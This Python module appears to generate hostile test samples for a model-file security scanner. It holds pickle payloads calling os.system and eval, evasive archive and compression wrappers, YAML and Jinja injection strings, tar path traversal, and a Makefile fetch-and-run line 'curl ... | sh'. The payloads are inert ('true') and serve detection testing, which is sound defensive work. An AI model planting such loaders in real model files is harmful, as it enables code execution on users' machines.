"""Round 2, hostile: files as libraries write them of harmful objects, tools' own files, odd packing."""

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import struct
import tarfile
import tempfile
import warnings
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np

from held_out import Sample, one
from held_out.assemble import Rng, call, made, push, raw, stacked, system, text
from held_out.bad_containers import tarred, torch_zip, zipped
from held_out.bad_formats import gguf, keras_configs
from held_out.good_tables import COMPRESS, data, written

EVIL = made(system())


class Shell:
    def __reduce__(self) -> tuple[object, ...]:
        return os.system, ("true",)


def harmful(rng: Rng) -> Iterator[tuple[str, Any]]:
    """Models of real libraries with something harmful kept inside."""
    import functools

    from sklearn import (
        compose,
        feature_extraction,
        kernel_approximation,
        linear_model,
        metrics,
        neighbors,
        pipeline,
        preprocessing,
        svm,
    )  # fmt: skip

    x, _, numbers = data(rng)
    fit = linear_model.Ridge().fit(x, numbers)
    yield "transformer", preprocessing.FunctionTransformer(os.system)
    yield "pipeline-deep", pipeline.make_pipeline(preprocessing.StandardScaler(), pipeline.make_pipeline(
        preprocessing.FunctionTransformer(eval)))  # fmt: skip
    yield (
        "columns",
        compose.ColumnTransformer([("a", preprocessing.FunctionTransformer(exec), [0])]),
    )
    yield "metric", neighbors.KNeighborsClassifier(metric=os.system)
    yield "kernel", svm.SVC(kernel=os.system)
    yield "nystroem", kernel_approximation.Nystroem(kernel=eval)
    yield "tokenizer", feature_extraction.text.TfidfVectorizer(tokenizer=os.popen)
    yield "scorer", metrics.make_scorer(eval)
    yield "partial", preprocessing.FunctionTransformer(functools.partial(os.system, "true"))
    yield "target", compose.TransformedTargetRegressor(fit, func=os.system, check_inverse=False)
    fit.note = Shell()
    yield "attribute", fit
    yield "dict-of-models", {"model": linear_model.Lasso(), "post": os.system}
    yield "after-arrays", [np.ones((30, 30)), np.arange(9.0), Shell()]
    holder = np.empty((2, 2), dtype=object)
    holder[:] = Shell()
    yield "object-array", {"w": np.ones(5), "x": holder}


def library_pickles(rng: Rng) -> Iterator[Sample]:
    import joblib
    import pandas as pd
    import skops.io
    import torch

    for at, (name, value) in enumerate(harmful(rng)):
        compress = COMPRESS[at % len(COMPRESS)]
        yield one(
            "2: harmful models by joblib",
            name,
            ".joblib",
            written(lambda p, v=value, c=compress: joblib.dump(v, p, compress=c), ".joblib"),
        )  # type: ignore[misc]
        file = io.BytesIO()
        torch.save(value, file, _use_new_zipfile_serialization=bool(at % 2))
        yield one("2: harmful models by torch.save", name, ".pt", file.getvalue())
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            try:
                yield one("2: harmful models by skops", name, ".skops", skops.io.dumps(value))
            except Exception:  # noqa: BLE001 - skops does not take it
                continue
    frame = pd.DataFrame({"a": [1, 2], "b": [Shell(), None]})
    for ending in (".pkl", ".pkl.gz", ".pkl.bz2", ".pkl.xz", ".pkl.zip", ".pkl.tar"):
        yield one(
            "2: frames with a harmful cell", "frame", ending, written(frame.to_pickle, ending)
        )


def networks(rng: Rng) -> Iterator[Sample]:
    import keras
    import torch

    def save(model: Any, ending: str) -> bytes:
        return written(model.save, ending)

    @keras.saving.register_keras_serializable("evil")
    class Custom(keras.layers.Layer):  # type: ignore[misc, name-defined]
        def call(self, x: Any) -> Any:
            return x

    def shift(x: Any) -> Any:
        return x + 1

    for ending in (".keras", ".h5"):
        for name, layer in (("lambda", keras.layers.Lambda(lambda x: x + 1)), ("custom", Custom()),
                            ("lambda-named", keras.layers.Lambda(shift)),
                            ("activation", keras.layers.Dense(2, activation=shift))):  # fmt: skip
            model = keras.Sequential([keras.Input((2,)), layer])
            yield one("2: Keras by its own library", name, ending, save(model, ending))
    good = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)])
    whole = save(good, ".keras")
    config = json.dumps(list(keras_configs())[int(rng.integers(10))][1]).encode()
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    yield one(
        "2: Keras by its own library",
        "config-swapped",
        ".keras",
        zipped({**members, "config.json": config}),
    )
    yield one(
        "2: Keras by its own library",
        "asset",
        ".keras",
        zipped({**members, "assets/vocab.pkl": EVIL}),
    )
    yield one(
        "2: Keras by its own library",
        "program",
        ".keras",
        zipped({**members, "assets/run.py": b"import os\n"}),
    )
    for name, value in (("function", os.system), ("module-hook", _hooked(torch)), ("tuple", (1, Shell())),
                        ("state-dict", {"w": torch.ones(2), "x": Shell()})):  # fmt: skip
        file = io.BytesIO()
        torch.save(value, file)
        yield one("2: torch by its own library", name, ".pt", file.getvalue())
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "p.pt"
        with torch.package.PackageExporter(str(path)) as exporter:
            exporter.save_source_string("net", "import os\nos.system('true')\n")
            exporter.save_text("m", "x.txt", "x")
        yield one("2: torch by its own library", "package", ".pt", path.read_bytes())


def _hooked(torch: Any) -> Any:
    module = torch.nn.Linear(2, 2)
    module.register_forward_hook(os.system)
    return module


def packing(rng: Rng) -> Iterator[tuple[str, bytes]]:
    whole = torch_zip(EVIL)
    plain = made(push({"w": [1, 2]}))
    pax = io.BytesIO()
    with tarfile.open(fileobj=pax, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("model.bin")
        info.size, info.pax_headers = len(EVIL), {"path": "../../tmp/none", "comment": "x"}
        archive.addfile(info, io.BytesIO(EVIL))
    yield "pax.tar", pax.getvalue()
    gnu = io.BytesIO()
    with tarfile.open(fileobj=gnu, mode="w", format=tarfile.GNU_FORMAT) as archive:
        info = tarfile.TarInfo("x/" * 80 + "model.pkl")
        info.size = len(EVIL)
        archive.addfile(info, io.BytesIO(EVIL))
    yield "longname.tar", gnu.getvalue()
    v7 = bytearray(tarred({"model.pkl": EVIL}))
    v7[257:265] = bytes(8)
    v7[148:156] = b" " * 8
    v7[148:156] = b"%06o\0 " % sum(v7[:512])
    yield "v7.tar", bytes(v7)
    stream = io.BytesIO()
    with zipfile.ZipFile(_Unseekable(stream), "w") as archive:  # type: ignore[arg-type]
        archive.writestr("archive/data.pkl", EVIL)
    yield "descriptor.pt", stream.getvalue()
    yield "spanned.pt", b"PK\x07\x08" + whole
    yield "extra-field.pt", _with_extra(EVIL)
    yield "gzip-comment.pkl.gz", b"\x1f\x8b\x08\x14" + bytes(6) + b"\x04\x00abcdcomment\0" + gzip.compress(
        EVIL, mtime=0)[10:]  # fmt: skip
    yield "zstd-skippable.bin", b"\x50\x2a\x4d\x18" + struct.pack("<I", len(EVIL)) + EVIL
    yield "lz4-legacy.bin", b"\x02\x21\x4c\x18" + struct.pack("<I", len(EVIL)) + EVIL
    yield "lzip.bin", b"LZIP\x01\x0c" + lzma.compress(EVIL, lzma.FORMAT_ALONE)[13:]
    yield "compress.Z", b"\x1f\x9d\x90" + EVIL
    yield (
        "snappy.bin",
        b"\xff\x06\x00\x00sNaPpY\x01" + struct.pack("<I", len(EVIL) + 4)[:3] + bytes(4) + EVIL,
    )
    yield "base64.txt", base64.b64encode(EVIL * 3)
    yield "base64.json", json.dumps({"model": base64.b64encode(EVIL).decode()}).encode()
    yield (
        "base64-old.json",
        json.dumps({"model": base64.b64encode(b"cos\nsystem\n(S'true'\ntR.").decode()}).encode(),
    )
    yield "hex.json", json.dumps({"model": EVIL.hex()}).encode()
    yield "latin1.json", json.dumps({"model": EVIL.decode("latin-1")}).encode()
    yield "bom.pkl", b"\xef\xbb\xbfcos\nsystem\n(S'true'\ntR."
    yield "bz2-in-zlib.bin", zlib.compress(bz2.compress(whole))
    yield "zip-in-npz.npz", zipped({"a.npy": zipped({"data.pkl": EVIL})})
    yield (
        "xz-filters.joblib",
        lzma.compress(
            EVIL, filters=[{"id": lzma.FILTER_DELTA, "dist": 1}, {"id": lzma.FILTER_LZMA2}]
        ),
    )
    yield "xz-check-none.joblib", lzma.compress(EVIL, check=lzma.CHECK_NONE)
    yield "shelve.db", b"\x13\x57\x9a\xce" + bytes(60) + EVIL
    yield (
        "safetensors-shape.safetensors",
        _safe({"w": {"dtype": "F32", "shape": [], "data_offsets": [0, 8]}}, bytes(8)),
    )
    yield "safetensors-holes.safetensors", _safe({"a": {"dtype": "U8", "shape": [2], "data_offsets": [0, 2]},
        "b": {"dtype": "U8", "shape": [2], "data_offsets": [60, 62]}}, EVIL.ljust(62))  # fmt: skip
    yield "gguf-pickle-text.gguf", gguf({"general.architecture": "x", "tokenizer.chat_template.x":
        "{{ x.__class__ }}"}) + bytes(0)  # fmt: skip
    yield (
        "gguf-jinja-filter.gguf",
        gguf({"tokenizer.chat_template": "{{ ()|attr('__class__')|attr('mro') }}"}),
    )
    yield "streams-many.pkl", plain * 70 + EVIL
    yield "streams-blank.pkl", plain + b"\n\n" + EVIL
    yield "protocol-1.pkl", b"(cposix\nsystem\nq\x01(U\x04trueq\x02tR1]."
    yield "memo-1-million.pkl", b"\x80\x04" + b"N\x940" * 100_000 + system() + b"."
    yield "bytearray-eight.pkl", b"\x80\x05\x96" + struct.pack("<Q", len(EVIL)) + EVIL + b"."
    yield "nested-twice.pkl", made(raw(made(raw(EVIL))))
    yield "nested-in-tuple.pkl", made(b"(" + raw(EVIL) + raw(EVIL) + b"t")
    yield "nested-by-io.pkl", made(call(stacked("_io", "BytesIO"), EVIL))
    yield "codecs-hex.pkl", made(call(stacked("_codecs", "decode"), EVIL.hex().encode(), "hex"))
    yield "getattr-pandas.pkl", made(call(stacked("builtins", "getattr"), "x", "y"))
    yield "path-unlink.pkl", made(stacked("pathlib", "PosixPath.unlink") + b"(" + call(
        stacked("pathlib", "PosixPath"), "/tmp/none") + b"tR")  # fmt: skip
    yield "path-write.pkl", made(stacked("pathlib", "Path.write_text") + b"(" + call(
        stacked("pathlib", "Path"), "/tmp/none") + text("x") + b"tR")  # fmt: skip
    yield "arrow-open.pkl", made(call(stacked("pyarrow.lib", "OSFile"), "/tmp/none", "w"))
    yield "arrow-pickle.pkl", made(call(stacked("pyarrow.lib", "foreign_buffer"), 1, 2))
    yield (
        "functional-boolean.pkl",
        made(call(stacked("torch.nn.functional", "boolean_dispatch"), "x")),
    )
    yield (
        "functional-has.pkl",
        made(call(stacked("torch.nn.functional", "importlib.import_module"), "os")),
    )
    yield "pandas-eval.pkl", made(call(stacked("pandas", "eval"), "1"))
    yield (
        "pandas-offset-apply.pkl",
        made(call(stacked("pandas._libs.tslibs.offsets", "warnings.sys.exit"), 0)),
    )


class _Unseekable:
    def __init__(self, file: io.BytesIO) -> None:
        self._file = file

    def write(self, chunk: bytes) -> int:
        return self._file.write(chunk)

    def flush(self) -> None:
        pass


def _with_extra(content: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        info = zipfile.ZipInfo("archive/data.pkl")
        info.extra = struct.pack("<HH", 0x7075, 17) + b"\x01" + bytes(4) + b"other/data.p"
        archive.writestr(info, content)
    return file.getvalue()


def _safe(header: dict[str, Any], tensors: bytes) -> bytes:
    written_header = json.dumps(header).encode()
    return struct.pack("<Q", len(written_header)) + written_header + tensors


def surroundings(rng: Rng) -> Iterator[tuple[str, dict[str, bytes]]]:
    """Files beside a model that a tool runs or obeys when the folder is opened or installed."""
    base = {"config.json": b'{"model_type": "bert"}'}
    for name, content in {
        "conftest.py": b"import os\nos.system('true')\n",
        "sitecustomize.py": b"import os\nos.system('true')\n",
        "setup.cfg": b"[options.entry_points]\nconsole_scripts =\n  x = evil:main\n",
        "hooks.sh": b"#!/bin/sh\ntrue\n",
        "Makefile.txt": b"all:\n\tcurl -s http://127.0.0.1:9/x | sh\n",
        "custom_generate/generate.py": b"import os\ndef generate(**k):\n    os.system('true')\n",
        "pipeline.py": b"import subprocess\nsubprocess.run(['true'])\n",
        "inference.js": b"require('child_process').exec('true')\n",
        "load.R": b"system('true')\n",
        "plugin.so": b"\x7fELF\x02\x01\x01" + rng.bytes(60),
        "model.dll": b"MZ" + rng.bytes(80),
        "train.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": ["!true"], "metadata": {},
            "outputs": [], "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
        "processor_config.json": b'{"auto_map": {"AutoProcessor": "processing_x.P"}}',
        "image_processor.json": b'{"nested": [{"auto_map": {"AutoImageProcessor": "x.P"}}]}',
        "chat_template.json": json.dumps({"chat_template": "{{ ().__class__.__mro__ }}"}).encode(),
        "hparams.yaml": b"model:\n  class_path: evil.Net\n  init_args: {}\n",
        "params.yml": b"a: !!python/object/apply:os.system ['true']\n",
        "conda.yaml": b"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        "scaler.pkl": EVIL,
        "rng_state.pth": torch_zip(EVIL),
        "scheduler.pt": torch_zip(EVIL),
        "label_encoder.npy": b"\x93NUMPY\x01\x00" + struct.pack("<H", 58)
            + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n " + EVIL,
        "optimizer.bin": gzip.compress(EVIL),
        "run.desktop": b"[Desktop Entry]\nExec=true\n",
        "model.html": b"<html><script>1</script></html>",
        "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject onload='x()'/></svg>",
    }.items():  # fmt: skip
        yield name.replace("/", "-"), {**base, name: content}


def samples(rng: Rng) -> Iterator[Sample]:
    yield from library_pickles(rng)
    yield from networks(rng)
    for name, content in packing(rng):
        stem, dot, ending = name.partition(".")
        yield one("2: packing and streams", stem, dot + ending, content)
    for name, files in surroundings(rng):
        yield Sample("2: files beside a model", name, files)
